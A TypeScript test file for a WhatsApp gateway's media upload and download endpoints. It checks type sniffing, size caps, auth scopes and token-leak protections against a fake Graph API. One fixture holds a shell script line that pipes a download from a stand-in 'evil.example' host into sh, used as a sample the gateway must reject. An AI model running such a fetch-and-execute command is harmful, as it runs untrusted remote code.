import { createHash, randomBytes } from "node:crypto";
import { request as httpRequest } from "node:http";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { declaredType } from "../src/media/kinds.js";
import { chooseType, sniffMedia } from "../src/media/sniff.js";
import {
  type FakeGraph,
  inboundMessagesNotification,
  signWebhook,
  startFakeGraph,
} from "./support/fake-graph.js";
import { eventually, startTestGateway, type TestGateway } from "./support/gateway.js";

// Media both ways against the fake Graph API over real HTTP: POST /v1/media streams the body to Meta's
// `/{phone-number-id}/media` as multipart (the fake parses it as it arrives, counts and hashes the file part),
// the type is sniffed from the bytes, caps are enforced before and during the stream; GET /v1/media/:id looks the
// medium up at Meta and streams it back with its checks.

const APP_SECRET = "meta-app-secret-for-media";
const ACCESS_TOKEN = "media-access-token";
const PHONE_NUMBER_ID = "106540352242922";
const MB = 1024 * 1024;

let fake: FakeGraph;
let gw: TestGateway;
let sender: string;
let reader: string;

beforeAll(async () => {
  fake = await startFakeGraph({ accessToken: ACCESS_TOKEN });
  gw = await startTestGateway({
    WHATSAPP_TRANSPORT: "cloud",
    GRAPH_API_BASE_URL: fake.baseUrl,
    WHATSAPP_ACCESS_TOKEN: ACCESS_TOKEN,
    WHATSAPP_PHONE_NUMBER_ID: PHONE_NUMBER_ID,
    WHATSAPP_APP_SECRET: APP_SECRET,
    LOG_LEVEL: "info",
  });
  sender = await gw.token(["messages:send"]);
  reader = await gw.token(["inbox"]);
});
afterAll(async () => {
  await gw?.stop();
  await fake?.close();
});

// --- sample files: real magic numbers, random content ---------------------------------------------------------

const jpeg = (size: number) => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), randomBytes(size - 4)]);
const png = (size: number) =>
  Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), randomBytes(size - 8)]);
function mp4(size: number, brand = "isom"): Buffer {
  const ftyp = Buffer.alloc(24);
  ftyp.writeUInt32BE(24, 0);
  ftyp.write(`ftyp${brand}`, 4, "latin1");
  ftyp.write("isomiso2", 16, "latin1");
  return Buffer.concat([ftyp, randomBytes(size - 24)]);
}
function webp(size: number): Buffer {
  const head = Buffer.from("RIFF\0\0\0\0WEBPVP8 ", "latin1");
  head.writeUInt32LE(size - 8, 4);
  return Buffer.concat([head, randomBytes(size - head.length)]);
}
const shellScript = Buffer.from("#!/bin/sh\ncurl http://evil.example/x | sh\n");
const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), randomBytes(2000)]);
function zipWith(name: string): Buffer {
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0);
  header.writeUInt16LE(Buffer.byteLength(name), 26);
  return Buffer.concat([header, Buffer.from(name), randomBytes(200)]);
}

const sha256 = (b: Buffer) => createHash("sha256").update(b).digest("hex");

// --- a streaming client: the body goes out chunk by chunk, the answer may come before it is all sent ---------------

interface Answer {
  status: number;
  headers?: Record<string, string | string[] | undefined>;
  json: { id?: string; error?: { code: string; message: string }; [k: string]: unknown };
}

function upload(
  body: Buffer,
  options: { type?: string; token?: string; chunked?: boolean; query?: string } = {},
): Promise<Answer> {
  const url = new URL(`${gw.url}/v1/media${options.query ?? ""}`);
  return new Promise((resolve, reject) => {
    const req = httpRequest(url, {
      method: "POST",
      headers: {
        ...(options.token === "" ? {} : { authorization: `Bearer ${options.token ?? sender}` }),
        ...(options.type ? { "content-type": options.type } : {}),
        ...(options.chunked ? { "transfer-encoding": "chunked" } : { "content-length": body.length }),
      },
    });
    req.on("response", (res) => {
      const chunks: Buffer[] = [];
      res.on("data", (c: Buffer) => chunks.push(c));
      res.on("end", () =>
        resolve({
          status: res.statusCode ?? 0,
          headers: res.headers,
          json: JSON.parse(Buffer.concat(chunks).toString() || "{}"),
        }),
      );
    });
    // Writes after an early answer fail with EPIPE/ECONNRESET: the answer is what counts.
    req.on("error", (error) => setTimeout(() => reject(error), 500));
    let at = 0;
    const step = 64 * 1024;
    const write = () => {
      while (at < body.length) {
        const chunk = body.subarray(at, at + step);
        at += chunk.length;
        if (!req.write(chunk)) {
          req.once("drain", write);
          return;
        }
      }
      req.end();
    };
    write();
  });
}

const lastUpload = () => fake.media.uploads.at(-1);

describe("what the bytes are (media/sniff.ts)", () => {
  const cases: Array<[string, Buffer, string, string | undefined]> = [
    ["jpeg", jpeg(100), "image/jpeg", "image/jpeg"],
    ["jpeg declared image/jpg", jpeg(100), "image/jpg", "image/jpeg"],
    ["png", png(100), "application/octet-stream", "image/png"],
    ["webp", webp(100), "image/webp", "image/webp"],
    ["mp4 (isom) as video", mp4(100), "video/mp4", "video/mp4"],
    ["mp4 (isom) as audio", mp4(100), "audio/mp4", "audio/mp4"],
    ["m4a", mp4(100, "M4A "), "audio/mp4", "audio/mp4"],
    ["3gpp", mp4(100, "3gp4"), "video/3gpp", "video/3gpp"],
    ["pdf", Buffer.from("%PDF-1.7\n%âãÏÓ\n"), "application/pdf", "application/pdf"],
    ["amr", Buffer.from("#!AMR\n\x3c\x91", "latin1"), "audio/amr", "audio/amr"],
    ["mp3 (ID3)", Buffer.from("ID3\x04\0\0\0\0\0\0", "latin1"), "audio/mpeg", "audio/mpeg"],
    ["mp3 (frame)", Buffer.from([0xff, 0xfb, 0x90, 0x64, 0, 0]), "audio/mpeg", "audio/mpeg"],
    ["aac (ADTS)", Buffer.from([0xff, 0xf1, 0x50, 0x80, 0x02, 0x1f, 0xfc]), "audio/aac", "audio/aac"],
    [
      "ogg opus",
      Buffer.from("OggS\0\x02\0\0\0\0\0\0\0\0OpusHead\x01", "latin1"),
      "audio/ogg; codecs=opus",
      "audio/ogg",
    ],
    [
      "docx",
      zipWith("word/document.xml"),
      "application/octet-stream",
      "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ],
    [
      "xlsx",
      zipWith("xl/workbook.xml"),
      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ],
    [
      "legacy .doc",
      Buffer.concat([
        Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
        Buffer.alloc(600),
        Buffer.from("WordDocument\0", "utf16le"),
      ]),
      "application/octet-stream",
      "application/msword",
    ],
    [
      "text",
      Buffer.from("Hello,\r\nthis is a plain text file — ünïcödé.\n"),
      "text/plain; charset=utf-8",
      "text/plain",
    ],
    [
      "ogg vorbis (WhatsApp takes Opus only)",
      Buffer.from("OggS\0\x02\0\0\0\0\x01vorbis", "latin1"),
      "audio/ogg",
      undefined,
    ],
    ["a zip that is no Office document", zipWith("payload.exe"), "application/zip", undefined],
    ["an ELF executable", elf, "image/jpeg", undefined],
  ];
  for (const [name, bytes, declared, expected] of cases) {
    it(`${name} → ${expected ?? "refused"}`, () => {
      const decision = chooseType(declaredType(declared), sniffMedia(bytes, true));
      if (expected) expect(decision).toEqual({ kind: "ok", type: expected });
      else expect(decision.kind).toBe("unsupported");
    });
  }
  it("a shell script declared image/jpeg is a mismatch naming both", () => {
    const decision = chooseType(declaredType("image/jpeg"), sniffMedia(shellScript, true));
    expect(decision.kind).toBe("mismatch");
    expect(decision.kind === "mismatch" && decision.message).toMatch(/declared image\/jpeg.*plain text/);
  });
  it("a PNG declared image/jpeg is a mismatch: the header chooses among what the bytes can be, never beyond", () => {
    expect(chooseType(declaredType("image/jpeg"), sniffMedia(png(100), true)).kind).toBe("mismatch");
  });
});

describe("POST /v1/media", () => {
  it("a 16 MB video streams to Meta: the fake receives exactly the bytes, as multipart, sha256 equal", async () => {
    const video = mp4(16 * MB);
    const before = fake.media.uploads.length;
    const res = await upload(video, { type: "video/mp4" });
    expect(res.status).toBe(201);
    expect(res.json).toMatchObject({
      kind: "video",
      mime_type: "video/mp4",
      size: video.length,
      sha256: sha256(video),
    });
    expect(fake.media.uploads.length).toBe(before + 1);
    const received = lastUpload();
    expect(received).toMatchObject({
      phoneNumberId: PHONE_NUMBER_ID,
      fields: { messaging_product: "whatsapp", type: "video/mp4" },
      fileType: "video/mp4",
      filename: "video.mp4",
      fileBytes: video.length,
      sha256: sha256(video),
      complete: true,
    });
    // Our id maps to Meta's media id.
    const row = await gw.gateway.store.media.getMedia(res.json.id as string);
    expect(row).toMatchObject({
      providerMediaId: received?.mediaId,
      direction: "out",
      subject: "tester",
      size: video.length,
    });
  });

  it("streams: Meta receives the first bytes while the client still holds back the last ones", async () => {
    const video = mp4(8 * MB);
    const before = fake.media.uploads.length;
    const url = new URL(`${gw.url}/v1/media`);
    const answer = new Promise<number>((resolve, reject) => {
      const req = httpRequest(url, {
        method: "POST",
        headers: {
          authorization: `Bearer ${sender}`,
          "content-type": "video/mp4",
          "content-length": video.length,
        },
      });
      req.on("response", (res) => {
        res.resume();
        res.on("end", () => resolve(res.statusCode ?? 0));
      });
      req.on("error", reject);
      // Half the file, then wait until Meta has some of it: a gateway that buffered the body would send nothing yet.
      req.write(video.subarray(0, 4 * MB));
      eventually(
        async () => ((fake.media.uploads[before]?.fileBytes ?? 0) > 0 ? true : undefined),
        10_000,
        "Meta to receive bytes",
      )
        .then(() => req.end(video.subarray(4 * MB)))
        .catch((error: unknown) => {
          req.destroy();
          reject(error);
        });
    });
    expect(await answer).toBe(201);
    expect(fake.media.uploads[before]).toMatchObject({
      fileBytes: video.length,
      sha256: sha256(video),
      complete: true,
    });
  });

  it("chunked (no Content-Length): the same stream, the multipart body chunked too", async () => {
    const image = jpeg(3 * MB);
    const res = await upload(image, { type: "image/jpeg", chunked: true });
    expect(res.status).toBe(201);
    expect(lastUpload()).toMatchObject({ fileBytes: image.length, sha256: sha256(image), complete: true });
  });

  it("over the cap while streaming (chunked 16 MB + 1 of video): 413, Meta's upload aborted before the whole file", async () => {
    const video = mp4(16 * MB + 1);
    const before = fake.media.uploads.length;
    const res = await upload(video, { type: "video/mp4", chunked: true });
    expect(res.status).toBe(413);
    expect(res.json.error?.code).toBe("payload_too_large");
    const received = await eventually(async () => {
      const u = fake.media.uploads[before];
      return u && (u.aborted || u.complete) ? u : undefined;
    });
    expect(received.complete).toBe(false);
    expect(received.fileBytes).toBeLessThanOrEqual(16 * MB);
    expect(received.mediaId).toBeUndefined();
  });

  it("over the cap by Content-Length (a 6 MB image): 413 before anything goes to Meta", async () => {
    const before = fake.media.uploads.length;
    const res = await upload(jpeg(6 * MB), { type: "image/jpeg" });
    expect(res.status).toBe(413);
    expect(res.json.error?.message).toMatch(/image \(image\/jpeg\) is at most 5242880 bytes/);
    // The unread rest of the body is not drained: the connection closes after the answer.
    expect(res.headers?.connection).toBe("close");
    expect(fake.media.uploads.length).toBe(before);
  });

  it("a sticker over 500 KB: 413", async () => {
    const res = await upload(webp(600 * 1024), { type: "image/webp" });
    expect(res.status).toBe(413);
  });

  it("a shell script declared image/jpeg: 422 media_type_mismatch naming both; nothing goes to Meta", async () => {
    const before = fake.media.uploads.length;
    const res = await upload(shellScript, { type: "image/jpeg" });
    expect(res.status).toBe(422);
    expect(res.json.error?.code).toBe("media_type_mismatch");
    expect(res.json.error?.message).toMatch(/declared image\/jpeg, but the bytes are plain text/);
    expect(fake.media.uploads.length).toBe(before);
  });

  it("an executable declared image/jpeg: 415 unsupported_media_type", async () => {
    const res = await upload(elf, { type: "image/jpeg" });
    expect(res.status).toBe(415);
    expect(res.json.error?.code).toBe("unsupported_media_type");
  });

  it("no Content-Type: 415; an empty body: 400", async () => {
    expect((await upload(jpeg(100))).status).toBe(415);
    const garbled = await upload(jpeg(100), { type: "not a type" });
    expect(garbled.status).toBe(415);
    expect(garbled.json.error?.message).toBe("Content-Type is not a valid media type");
    expect((await upload(Buffer.alloc(0), { type: "image/jpeg" })).json.error?.code).toBe("empty_body");
  });

  it("auth: no token 401, a token without messages:send 403, and nothing reaches Meta", async () => {
    const before = fake.media.uploads.length;
    expect((await upload(jpeg(1000), { type: "image/jpeg", token: "" })).status).toBe(401);
    expect((await upload(jpeg(1000), { type: "image/jpeg", token: reader })).status).toBe(403);
    expect(fake.media.uploads.length).toBe(before);
  });

  it("from: an unknown number 422; a WhatsApp Web number 422 media_needs_cloud; a bad id 400", async () => {
    expect((await upload(jpeg(1000), { type: "image/jpeg", query: "?from=nope" })).json.error?.code).toBe(
      "unknown_number",
    );
    const created = await gw.gateway.store.numbers.createNumber({
      id: "0193f0a0-0000-7000-8000-00000000000a",
      name: "web-shop",
      transport: "web",
      status: "unlinked",
      createdAt: Date.now(),
    });
    expect(created.kind).toBe("ok");
    const web = await upload(jpeg(1000), {
      type: "image/jpeg",
      query: "?from=0193f0a0-0000-7000-8000-00000000000a",
    });
    expect(web.status).toBe(422);
    expect(web.json.error?.code).toBe("media_needs_cloud");
    expect((await upload(jpeg(1000), { type: "image/jpeg", query: "?from=a%20b" })).status).toBe(400);
  });

  it("from: a cloud number of the registry: the upload goes to its phone number id with its own token", async () => {
    const admin = await gw.token(["admin"]);
    const created = await gw.request("POST", "/v1/numbers", {
      token: admin,
      body: {
        name: "second-cloud",
        transport: "cloud",
        cloud: { phone_number_id: "200000000000001", access_token: ACCESS_TOKEN },
      },
    });
    expect(created.status).toBe(201);
    const image = png(50_000);
    const res = await upload(image, { type: "image/png", query: `?from=${created.json.id}` });
    expect(res.status).toBe(201);
    expect(lastUpload()).toMatchObject({
      phoneNumberId: "200000000000001",
      sha256: sha256(image),
      complete: true,
    });
    expect(await gw.gateway.store.media.getMedia(res.json.id as string)).toMatchObject({
      numberId: created.json.id,
    });
  });

  it("sandbox: the bytes are checked and dropped (201), nothing leaves the machine; GET answers 409", async () => {
    const sandbox = await startTestGateway();
    try {
      const t = await sandbox.token(["messages:send", "inbox"]);
      const before = fake.media.uploads.length;
      const res = await fetch(`${sandbox.url}/v1/media`, {
        method: "POST",
        headers: { authorization: `Bearer ${t}`, "content-type": "image/png" },
        body: png(5000),
      });
      expect(res.status).toBe(201);
      const { id } = (await res.json()) as { id: string };
      expect(fake.media.uploads.length).toBe(before);
      const got = await fetch(`${sandbox.url}/v1/media/${id}`, { headers: { authorization: `Bearer ${t}` } });
      expect(got.status).toBe(409);
    } finally {
      await sandbox.stop();
    }
  });

  it("Meta refuses the upload: 502 upstream_error with Meta's code, nothing recorded", async () => {
    const other = await startFakeGraph({ accessToken: "another-token" });
    const gw2 = await startTestGateway({
      WHATSAPP_TRANSPORT: "cloud",
      GRAPH_API_BASE_URL: other.baseUrl,
      WHATSAPP_ACCESS_TOKEN: ACCESS_TOKEN,
      WHATSAPP_PHONE_NUMBER_ID: PHONE_NUMBER_ID,
    });
    try {
      const t = await gw2.token(["messages:send"]);
      const res = await fetch(`${gw2.url}/v1/media`, {
        method: "POST",
        headers: { authorization: `Bearer ${t}`, "content-type": "image/png" },
        body: png(5000),
      });
      expect(res.status).toBe(502);
      expect(((await res.json()) as Answer["json"]).error?.message).toMatch(/code 190/);
    } finally {
      await gw2.stop();
      await other.close();
    }
  });
});

// --- inbound media: registered from Meta's webhook, fetched through the gateway --------------------------------

async function deliverInbound(wamid: string, field: "image" | "document", mediaId: string, mimeType: string) {
  const body = JSON.stringify(
    inboundMessagesNotification(
      [
        {
          from: "14155550123",
          id: wamid,
          type: field,
          [field]: { id: mediaId, mime_type: mimeType, sha256: "ignored-here" },
        },
      ],
      { phoneNumberId: PHONE_NUMBER_ID },
    ),
  );
  const res = await fetch(`${gw.url}/webhooks/whatsapp`, {
    method: "POST",
    headers: { "content-type": "application/json", "x-hub-signature-256": signWebhook(APP_SECRET, body) },
    body,
  });
  expect(res.status).toBe(200);
  await eventually(async () => ((await gw.gateway.store.media.getInboundMedia(mediaId)) ? true : undefined));
}

const fetchMedia = (id: string, token = reader) =>
  fetch(`${gw.url}/v1/media/${id}`, { headers: { authorization: `Bearer ${token}` } });

describe("GET /v1/media/:id", () => {
  it("an inbound image: looked up at Meta, downloaded with the number's token, streamed with its type and size", async () => {
    const photo = jpeg(200 * 1024);
    const id = fake.media.add({ bytes: photo, mimeType: "image/jpeg" });
    await deliverInbound(`wamid.media-${id}`, "image", id, "image/jpeg");
    const res = await fetchMedia(id);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("image/jpeg");
    expect(res.headers.get("content-length")).toBe(String(photo.length));
    const bytes = Buffer.from(await res.arrayBuffer());
    expect(sha256(bytes)).toBe(sha256(photo));
    // The token never leaves the gateway, nor reaches its logs.
    expect(JSON.stringify([...res.headers])).not.toContain(ACCESS_TOKEN);
    expect(gw.logs()).not.toContain(ACCESS_TOKEN);
    // admin implies inbox; other scopes do not.
    expect((await fetchMedia(id, await gw.token(["admin"]))).status).toBe(200);
    expect((await fetchMedia(id, await gw.token(["messages:read", "messages:send"]))).status).toBe(403);
  });

  it("ids GET does not know are 404, even when Meta knows them (no proxy for arbitrary media ids)", async () => {
    const id = fake.media.add({ bytes: jpeg(1000), mimeType: "image/jpeg" });
    const downloads = fake.media.downloads;
    expect((await fetchMedia(id)).status).toBe(404);
    expect((await fetchMedia("0193f0a0-0000-7000-8000-000000000001")).status).toBe(404);
    expect(fake.media.downloads).toBe(downloads);
  });

  it("an upload of the caller's round-trips; another subject's upload is 404", async () => {
    const doc = Buffer.from(`%PDF-1.4\n${"x".repeat(10_000)}`);
    const res = await upload(doc, { type: "application/pdf" });
    expect(res.status).toBe(201);
    const mine = await gw.token(["inbox"], { sub: "tester" });
    const got = await fetchMedia(res.json.id as string, mine);
    expect(got.status).toBe(200);
    expect(Buffer.from(await got.arrayBuffer()).equals(doc)).toBe(true);
    expect(
      (await fetchMedia(res.json.id as string, await gw.token(["inbox"], { sub: "someone-else" }))).status,
    ).toBe(404);
  });

  it("a download whose sha256 differs from Meta's lookup is cut off: the client never gets a whole body", async () => {
    const photo = jpeg(300 * 1024);
    const id = fake.media.add({ bytes: photo, mimeType: "image/jpeg", sha256: sha256(Buffer.from("other")) });
    await deliverInbound(`wamid.bad-sha-${id}`, "image", id, "image/jpeg");
    const res = await fetchMedia(id);
    expect(res.status).toBe(200);
    await expect(res.arrayBuffer()).rejects.toThrow();
  });

  it("a redirect from the media URL is not followed: 502", async () => {
    const elsewhere = await startFakeGraph({});
    const id = fake.media.add({
      bytes: jpeg(1000),
      mimeType: "image/jpeg",
      redirectTo: `${elsewhere.baseUrl}/x`,
    });
    await deliverInbound(`wamid.redirect-${id}`, "image", id, "image/jpeg");
    const res = await fetchMedia(id);
    expect(res.status).toBe(502);
    expect(((await res.json()) as Answer["json"]).error?.message).toMatch(/redirect/);
    expect(elsewhere.requests.length).toBe(0);
    await elsewhere.close();
  });

  it("a URL that is neither https nor on the Graph API's origin gets no token: 502", async () => {
    const elsewhere = await startFakeGraph({});
    const id = fake.media.add({
      bytes: jpeg(1000),
      mimeType: "image/jpeg",
      url: `${elsewhere.baseUrl}/steal`,
    });
    await deliverInbound(`wamid.elsewhere-${id}`, "image", id, "image/jpeg");
    const res = await fetchMedia(id);
    expect(res.status).toBe(502);
    expect(elsewhere.requests.length).toBe(0);
    await elsewhere.close();
  });

  it("Meta announcing more than the kind's cap (a 6 MB image): 422 before any download", async () => {
    const id = fake.media.add({ bytes: jpeg(1000), mimeType: "image/jpeg", fileSize: 6 * MB });
    await deliverInbound(`wamid.big-${id}`, "image", id, "image/jpeg");
    const downloads = fake.media.downloads;
    const res = await fetchMedia(id);
    expect(res.status).toBe(422);
    expect(fake.media.downloads).toBe(downloads);
  });
});
